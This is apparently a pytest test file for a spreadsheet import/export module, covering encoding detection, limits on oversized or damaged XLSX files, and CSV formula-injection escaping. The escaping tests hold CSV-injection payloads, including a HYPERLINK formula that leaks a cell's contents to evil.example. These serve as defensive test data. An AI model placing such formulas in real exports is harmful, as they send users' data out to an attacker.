import csv
import io
import subprocess
import sys
import zipfile
from datetime import date, datetime, time, timedelta
from functools import cache
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from kiosk import spreadsheet
from kiosk.spreadsheet import FORMULA_TRIGGERS, SpreadsheetError, read_table, safe_cell, write_csv


def csv_bytes(text, *, encoding="utf-8"):
    return text.encode(encoding)


def xlsx_bytes(rows, *, sheet_title=None):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    if sheet_title:
        workbook.create_sheet(sheet_title)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def zip_bytes(files):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


def sheet_xlsx(sheet_data, *, shared_strings=(), dimension="A1"):
    """An XLSX written by hand, laid out as Excel writes one (openpyxl writes no shared strings)."""
    relationships = "".join(
        f'<Relationship Id="rId{number}" Type="{RELATIONSHIP}/{kind}" Target="{target}"/>'
        for number, kind, target in [(1, "worksheet", "worksheets/sheet1.xml"),
                                     (2, "sharedStrings", "sharedStrings.xml")]
    )
    return zip_bytes({
        "_rels/.rels": f'<Relationships xmlns="{PACKAGE}"><Relationship Id="rId1" '
                       f'Type="{RELATIONSHIP}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{RELATIONSHIP}"><sheets>'
                           '<sheet name="Ansatte" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}">{relationships}</Relationships>',
        "xl/sharedStrings.xml": f'<sst xmlns="{MAIN}">{"".join(shared_strings)}</sst>',
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{MAIN}"><dimension ref="{dimension}"/>'
                                    f"<sheetData>{sheet_data}</sheetData></worksheet>",
    })


def with_zip_header_byte(data, *, local, central, value):
    """Set bits in one byte of every entry's local and central ZIP header (an offset of None leaves that one alone)."""
    data = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", local), (b"PK\x01\x02", central)):
        start = data.find(signature)
        while start != -1:
            if offset is not None:
                data[start + offset] |= value
            start = data.find(signature, start + 4)
    return bytes(data)


def exported(rows, header=("a", "b")):
    stream = io.StringIO(newline="")
    write_csv(rows, header, stream)
    return stream.getvalue()


def values(table):
    return [row.values for row in table.rows]


# Reading CSV


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "utf-16"])
def test_reads_csv_in_every_encoding_excel_writes(encoding):
    table = read_table(csv_bytes("navn,avdeling\r\nKari Ødegård,Økonomi og Æresråd\r\n", encoding=encoding), "h.csv")

    assert values(table) == [{"navn": "Kari Ødegård", "avdeling": "Økonomi og Æresråd"}]


def test_reads_windows_1252_bytes_for_norwegian_letters():
    table = read_table(b"navn\r\n\xc5se \xd8deg\xe5rd \xc6r\xf8\r\n", "h.csv")

    assert values(table) == [{"navn": "Åse Ødegård Ærø"}]


@pytest.mark.parametrize("lines, bad_line", [
    (["navn", "Kari Ødegård".encode(), "Åse Berg".encode("cp1252")], 3),  # UTF-8, then a pasted Windows line
    (["navn", "Åse Berg".encode("cp1252"), "Kari Ødegård".encode(), "Ola Ås".encode()], 2),
])
def test_r27_a_file_mixing_utf8_and_windows_1252_is_refused_naming_the_first_line_that_is_not_utf8(lines, bad_line):
    data = b"\r\n".join(line if isinstance(line, bytes) else line.encode() for line in lines) + b"\r\n"
    with pytest.raises(spreadsheet.SpreadsheetError) as e:
        read_table(data, "h.csv")
    assert f"line {bad_line} is written differently" in str(e.value)
    assert "Åse" not in str(e.value) and "Ødegård" not in str(e.value).replace("names like Ødegård", "")


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_sniffs_the_delimiter_from_the_header_line(delimiter):
    text = delimiter.join(["name", "phone", "department"]) + "\n" + delimiter.join(["Kari", "41234567", "HR"])

    assert values(read_table(csv_bytes(text), "h.csv")) == [{"name": "Kari", "phone": "41234567", "department": "HR"}]


def test_delimiters_inside_quotes_do_not_count_when_sniffing():
    text = '"name, full, really";phone\n"Berg, Kari";41234567\n'

    assert values(read_table(csv_bytes(text), "h.csv")) == [{"name, full, really": "Berg, Kari", "phone": "41234567"}]


def test_a_file_with_one_column_needs_no_delimiter():
    assert values(read_table(csv_bytes("name\nKari\n"), "h.csv")) == [{"name": "Kari"}]


def test_quoted_fields_keep_delimiters_quotes_and_line_breaks():
    text = 'name;note\n"Berg; Kari";"first line\nsecond ""quoted"" line"\n'

    assert values(read_table(csv_bytes(text), "h.csv")) == [
        {"name": "Berg; Kari", "note": 'first line\nsecond "quoted" line'}
    ]


def test_row_numbers_are_the_row_numbers_excel_shows():
    text = '\nname,note\n"Kari","two\nlines"\n\nOla,x\n'

    assert [row.line for row in read_table(csv_bytes(text), "h.csv").rows] == [3, 5]


@pytest.mark.parametrize("blank", ["", "   ", ",,", " ; ; "])
def test_blank_lines_are_skipped(blank):
    text = f"name;phone\n{blank}\nKari;41234567\n{blank}\n".replace(",", ";")

    assert values(read_table(csv_bytes(text), "h.csv")) == [{"name": "Kari", "phone": "41234567"}]


def test_headers_are_trimmed_casefolded_and_single_spaced():
    table = read_table(csv_bytes("  Full   NAME ,E-Post\nKari,k@example.no\n"), "h.csv")

    assert table.header == ["full name", "e-post"]


def test_values_are_trimmed_even_around_quotes():
    table = read_table(csv_bytes('name,phone\n  Kari Berg  , "412 34 567" \n'), "h.csv")

    assert values(table) == [{"name": "Kari Berg", "phone": "412 34 567"}]


def test_short_rows_get_empty_values_and_extra_cells_are_ignored():
    table = read_table(csv_bytes("name,phone,department\nKari\nOla,41234567,HR,extra\n"), "h.csv")

    assert values(table) == [
        {"name": "Kari", "phone": "", "department": ""},
        {"name": "Ola", "phone": "41234567", "department": "HR"},
    ]


def test_columns_without_a_header_name_are_left_out():
    table = read_table(csv_bytes("name,,phone,\nKari,note,41234567,\n"), "h.csv")

    assert table.header == ["name", "", "phone"]
    assert values(table) == [{"name": "Kari", "phone": "41234567"}]


# Reading XLSX


def test_reads_the_first_sheet_of_an_xlsx_file():
    data = xlsx_bytes([["Navn", "Mobil"], ["Kari Ødegård", "412 34 567"]], sheet_title="Other sheet")

    assert values(read_table(data, "hosts.xlsx")) == [{"navn": "Kari Ødegård", "mobil": "412 34 567"}]


@pytest.mark.parametrize(
    "cell, text",
    [
        (41234567.0, "41234567"),
        (41234567, "41234567"),
        (3.5, "3.5"),
        (True, "TRUE"),
        (False, "FALSE"),
        (date(2025, 3, 1), "2025-03-01"),
        (datetime(2025, 3, 1, 9, 30), "2025-03-01T09:30:00"),
        (datetime(2025, 3, 1, 9, 30, 15), "2025-03-01T09:30:15"),
        (time(9, 30), "09:30:00"),
        (timedelta(hours=26), "1 day, 2:00:00"),  # a duration cell, [h]:mm:ss
        ("  padded  ", "padded"),
    ],
)
def test_xlsx_cells_become_the_text_a_person_sees(cell, text):
    data = xlsx_bytes([["value"], [cell]])

    assert values(read_table(data, "h.xlsx")) == [{"value": text}]


def test_xlsx_row_numbers_count_blank_rows():
    workbook = openpyxl.Workbook()
    workbook.active["A2"] = "name"
    workbook.active["A5"] = "Kari"
    buffer = io.BytesIO()
    workbook.save(buffer)

    assert [row.line for row in read_table(buffer.getvalue(), "h.xlsx").rows] == [5]


def test_a_list_that_starts_in_column_c_keeps_its_columns_and_rows():
    workbook = openpyxl.Workbook()
    workbook.active["C3"], workbook.active["D3"] = "name", "phone"
    workbook.active["C4"], workbook.active["D4"] = "Kari", "41234567"
    buffer = io.BytesIO()
    workbook.save(buffer)

    table = read_table(buffer.getvalue(), "h.xlsx")

    assert table.header == ["", "", "name", "phone"]
    assert [(row.line, row.values) for row in table.rows] == [(4, {"name": "Kari", "phone": "41234567"})]


@pytest.mark.parametrize("error", ["#N/A", "#DIV/0!", "#REF!"])
def test_an_xlsx_formula_error_reads_as_an_empty_cell(error):
    # python-calamine gives no text for error cells; openpyxl gave "#N/A", which a host list then imported as a name.
    data = xlsx_bytes([["name", "phone"], ["Kari", error], [error, error]])

    assert values(read_table(data, "h.xlsx")) == [{"name": "Kari", "phone": ""}]


def test_an_xlsx_formula_reads_as_the_value_excel_last_computed():
    data = sheet_xlsx('<row r="1"><c r="A1" t="inlineStr"><is><t>phone</t></is></c></row>'
                      '<row r="2"><c r="A2"><f>41234560+7</f><v>41234567</v></c></row>')

    assert values(read_table(data, "h.xlsx")) == [{"phone": "41234567"}]


def test_reads_an_xlsx_whose_text_is_in_the_shared_strings_table_as_excel_writes_it():
    shared = [
        "<si><t>Navn</t></si>",
        "<si><t>Avdeling</t></si>",
        '<si><r><t xml:space="preserve">Kari </t></r><r><rPr><b/></rPr><t>Ødegård</t></r></si>',  # one run in bold
        "<si><t>Berg &amp; Co &lt;HR&gt;</t></si>",
        '<si><t xml:space="preserve">  Ola  </t><rPh sb="0" eb="1"><t>O</t></rPh></si>',  # with a phonetic guide
    ]
    rows = "".join(
        f'<row r="{line}"><c r="A{line}" t="s"><v>{name}</v></c><c r="B{line}" t="s"><v>{department}</v></c></row>'
        for line, name, department in [(1, 0, 1), (2, 2, 3), (3, 4, 3), (4, 2, 3)]
    )

    table = read_table(sheet_xlsx(rows, shared_strings=shared), "h.xlsx")

    assert table.header == ["navn", "avdeling"]
    assert values(table) == [{"navn": "Kari Ødegård", "avdeling": "Berg & Co <HR>"},
                             {"navn": "Ola", "avdeling": "Berg & Co <HR>"},
                             {"navn": "Kari Ødegård", "avdeling": "Berg & Co <HR>"}]


@pytest.mark.parametrize("dimension", ["A1", "A1:XFD1048576", "B7:C9"])
def test_an_xlsx_is_read_to_its_last_cell_whatever_its_dimension_tag_says(dimension):
    rows = "".join(f'<row r="{line}"><c r="A{line}" t="inlineStr"><is><t>{text}</t></is></c></row>'
                   for line, text in [(1, "name"), (2, "Kari"), (40, "Ola")])

    table = read_table(sheet_xlsx(rows, dimension=dimension), "h.xlsx")

    assert [(row.line, row.values) for row in table.rows] == [(2, {"name": "Kari"}), (40, {"name": "Ola"})]


def test_the_first_worksheet_is_read_when_a_chart_sheet_comes_before_it():
    workbook = openpyxl.Workbook()
    workbook.active.append(["name"])
    workbook.active.append(["Kari"])
    workbook.create_chartsheet("Chart", 0)
    buffer = io.BytesIO()
    workbook.save(buffer)

    assert values(read_table(buffer.getvalue(), "h.xlsx")) == [{"name": "Kari"}]


def test_the_content_decides_the_format_not_the_file_name():
    assert values(read_table(xlsx_bytes([["name"], ["Kari"]]), "hosts.csv")) == [{"name": "Kari"}]
    assert values(read_table(csv_bytes("name\nOla\n"), "hosts.xlsx")) == [{"name": "Ola"}]


# Refusing what cannot be read


@pytest.mark.parametrize(
    "data, message",
    [
        (b"", "The file is empty"),
        (b"\r\n\r\n  \n", "no header row"),
        (b"name,phone\r\n", "no rows below it"),
        (b"name,phone\r\n,\r\n", "no rows below it"),
        (b"name,phone\nKari\x00,41234567\n", "binary data"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "binary data"),
        (b"name\n\x81\x8d\x8f\x90\x9d\n", "letters in this file could not be read"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), "old-style Excel file (.xls)"),
        (zip_bytes({"hosts.csv": "name,phone\nKari,41234567\n"}), "is a ZIP archive"),
        (zip_bytes({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}), "is a ZIP archive"),
        (b"PK\x03\x04" + b"garbage" * 20, "damaged"),
        (zip_bytes({"xl/workbook.xml": "<not-a-workbook"}), "damaged"),
        (b"name,Name\nKari,Ola\n", "“name” more than once"),
    ],
)
def test_unreadable_files_raise_a_spreadsheet_error_in_plain_words(data, message):
    with pytest.raises(SpreadsheetError, match=message.replace("(", r"\(").replace(")", r"\)")):
        read_table(data, "hosts.csv")


def test_a_zip_renamed_to_csv_is_named_in_the_message():
    with pytest.raises(SpreadsheetError, match="hosts.csv is a ZIP archive"):
        read_table(zip_bytes({"readme.txt": "hello"}), "hosts.csv")


def test_more_rows_than_the_limit_are_refused():
    with pytest.raises(SpreadsheetError, match="more than 3 rows"):
        read_table(csv_bytes("name\na\nb\nc\nd\n"), "h.csv", max_rows=3)


def test_exactly_the_row_limit_is_accepted():
    assert len(read_table(csv_bytes("name\na\nb\nc\n"), "h.csv", max_rows=3).rows) == 3


@pytest.mark.parametrize(
    "text, message",
    [
        ("a,b,c,d\n1,2,3,4\n", "header row has more than 3 columns"),
        ("a,b,c\n1,2,3,4\n", "Line 2 has more than 3 columns"),
    ],
)
def test_more_columns_than_the_limit_are_refused(text, message):
    with pytest.raises(SpreadsheetError, match=message):
        read_table(csv_bytes(text), "h.csv", max_columns=3)


def test_empty_cells_past_the_column_limit_are_accepted():
    assert values(read_table(csv_bytes("a,b,c,,,\n1,2,3,,,,,\n"), "h.csv", max_columns=3)) == [
        {"a": "1", "b": "2", "c": "3"}
    ]


def test_an_xlsx_with_more_columns_than_the_limit_is_refused():
    with pytest.raises(SpreadsheetError, match="more than 3 columns"):
        read_table(xlsx_bytes([["a", "b"], [1, 2, 3, 4]]), "h.xlsx", max_columns=3)


def far_cell(reference, attributes=""):
    return ('<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row><row r="2">'
            f'<c r="A2" t="inlineStr"><is><t>Kari</t></is></c><c r="{reference}"{attributes}><v>1</v></c></row>')


@pytest.mark.parametrize("sheet_data", [
    far_cell("J11"),  # 11 rows by 10 columns
    far_cell("A2", ' r="J11"'),  # calamine takes the last r
    far_cell("A2", " s='0'   r = 'j11'"),
    # No references: each cell goes right of the one before, each row below: 2 rows by 60 columns, in 61 cells.
    "<row><c><v>1</v></c></row><row>" + "<c><v>1</v></c>" * 60 + "</row>",
    "<row>" + '<c r="A1"><v>1</v></c>' * 101 + "</row>",  # a grid of one cell, but 101 of them to read
])
def test_an_xlsx_is_refused_before_calamine_would_hold_more_than_max_cells(monkeypatch, sheet_data):
    monkeypatch.setattr(spreadsheet, "MAX_CELLS", 100)

    with pytest.raises(SpreadsheetError, match="more than 100 cells"):
        read_table(sheet_xlsx(sheet_data), "h.xlsx", max_columns=20)


def test_an_xlsx_just_within_max_cells_is_read(monkeypatch):
    monkeypatch.setattr(spreadsheet, "MAX_CELLS", 100)

    assert values(read_table(sheet_xlsx(far_cell("J10")), "h.xlsx", max_columns=20))[0]["name"] == "Kari"


def test_one_cell_at_the_last_row_and_column_of_a_sheet_is_refused_without_taking_the_process_down(tmp_path):
    # calamine would ask for 550 GB for this 1 KB file and abort the process, so this runs in a child process.
    path = tmp_path / "h.xlsx"
    path.write_bytes(sheet_xlsx(far_cell("XFD1048576")))
    script = ("import sys; from pathlib import Path; from kiosk.spreadsheet import SpreadsheetError, read_table\n"
              "try: read_table(Path(sys.argv[1]).read_bytes(), 'h.xlsx')\n"
              "except SpreadsheetError as e: print(e)")

    done = subprocess.run([sys.executable, "-c", script, str(path)], cwd=Path(__file__).parents[1],
                          capture_output=True, text=True, timeout=60)

    assert done.returncode == 0, done.stderr[-500:]
    assert "more than 5,000,000 cells" in done.stdout


@pytest.mark.parametrize("local, central, value", [
    (6, 8, 0x01),  # the entries are encrypted
    (None, 6, 0xF0),  # a ZIP version Python cannot unpack
])
def test_an_xlsx_python_cannot_unpack_is_called_damaged(local, central, value):
    data = with_zip_header_byte(xlsx_bytes([["name"], ["Kari"]]), local=local, central=central, value=value)

    with pytest.raises(SpreadsheetError, match="damaged"):
        read_table(data, "h.xlsx")


def test_a_zip_with_a_broken_workbook_is_not_read_as_the_other_spreadsheet_it_also_holds():
    ods = {  # an OpenDocument spreadsheet, which calamine reads when its XLSX reader gives up
        "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
        "META-INF/manifest.xml": '<manifest:manifest '
                                 'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
        "content.xml": '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
                       'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
                       'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
                       '<table:table table:name="S"><table:table-row><table:table-cell office:value-type="string">'
                       "<text:p>name</text:p></table:table-cell></table:table-row></table:table>"
                       "</office:spreadsheet></office:body></office:document-content>",
    }

    with pytest.raises(SpreadsheetError, match="damaged"):
        read_table(zip_bytes({"xl/workbook.xml": "<not-a-workbook", **ods}), "h.xlsx")


def test_an_xlsx_that_unpacks_too_large_is_refused(monkeypatch):
    monkeypatch.setattr(spreadsheet, "MAX_UNPACKED_BYTES", 1000)

    with pytest.raises(SpreadsheetError, match="too large when unpacked"):
        read_table(xlsx_bytes([["name"], ["Kari"]]), "h.xlsx")


def test_a_quote_that_is_never_closed_is_refused_when_the_cell_grows_too_long():
    data = csv_bytes('name,phone\n"Kari,41234567\n' + "Ola,41234568\n" * 20_000)

    with pytest.raises(SpreadsheetError, match="Line 2 could not be read"):
        read_table(data, "h.csv")


@given(st.binary(max_size=2000))
def test_r38_read_table_on_arbitrary_bytes_raises_only_spreadsheet_error(data):
    try:
        read_table(data, "any.csv")
    except SpreadsheetError:
        pass


@given(st.binary(max_size=2000))
def test_r38_read_table_on_arbitrary_zip_like_bytes_raises_only_spreadsheet_error(data):
    try:
        read_table(b"PK\x03\x04" + data, "any.xlsx")
    except SpreadsheetError:
        pass


@cache
def small_workbook():
    return xlsx_bytes([["name", "phone"], ["Kari", 41234567]])


@given(st.integers(0, 4000), st.binary(min_size=1, max_size=8))
def test_r38_read_table_on_a_damaged_xlsx_raises_only_spreadsheet_error(position, damage):
    data = bytearray(small_workbook())
    position %= len(data)
    data[position : position + len(damage)] = damage

    try:
        read_table(bytes(data), "h.xlsx")
    except SpreadsheetError:
        pass


# Writing CSV (R28)


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=HYPERLINK(\"https://evil.example\",\"Click\")", "'=HYPERLINK(\"https://evil.example\",\"Click\")"),
        ("+4741234567", "'+4741234567"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("\0cmd", "'\0cmd"),
        ("'t Hooft", "''t Hooft"),
    ],
)
def test_r28_safe_cell_prefixes_formula_triggers(value, cell):
    assert safe_cell(value) == cell


@pytest.mark.parametrize("value, cell", [("Kari Ødegård", "Kari Ødegård"), ("a=b", "a=b"), (None, ""), (42, "42")])
def test_safe_cell_leaves_other_values_as_text(value, cell):
    assert safe_cell(value) == cell


def test_write_csv_starts_with_a_utf8_byte_order_mark_for_excel():
    assert exported([["Åse", "Ø"]]).startswith("\ufeffa,b\r\n")


def test_write_csv_quotes_delimiters_quotes_and_line_breaks_as_rfc_4180_says():
    assert exported([['Berg, "Kari"', "two\nlines"]]) == '\ufeffa,b\r\n"Berg, ""Kari""","two\nlines"\r\n'


@given(st.lists(st.lists(st.text(max_size=20), min_size=2, max_size=2), max_size=10))
def test_r28_no_exported_cell_starts_with_a_trigger_unless_prefixed(rows):
    reader = csv.reader(io.StringIO(exported(rows).removeprefix("\ufeff"), newline=""))

    for cells in reader:
        for cell in cells:
            assert not cell.startswith(FORMULA_TRIGGERS)


_cell_text = st.text(st.characters(blacklist_categories=("Cc", "Cs")), max_size=20).filter(
    lambda text: text == text.strip()
)


@given(st.lists(st.lists(_cell_text, min_size=2, max_size=2).filter(any), min_size=1, max_size=10))
def test_r28_read_table_reads_back_what_write_csv_wrote(rows):
    table = read_table(exported(rows).encode("utf-8"), "export.csv")

    assert [[row.values["a"], row.values["b"]] for row in table.rows] == rows


def test_r28_a_hyperlink_formula_survives_export_and_import_as_text():
    name = '=HYPERLINK("https://evil.example/?leak="&A2,"Click for prize")'

    assert values(read_table(exported([[name, "x"]]).encode("utf-8"), "export.csv")) == [{"a": name, "b": "x"}]
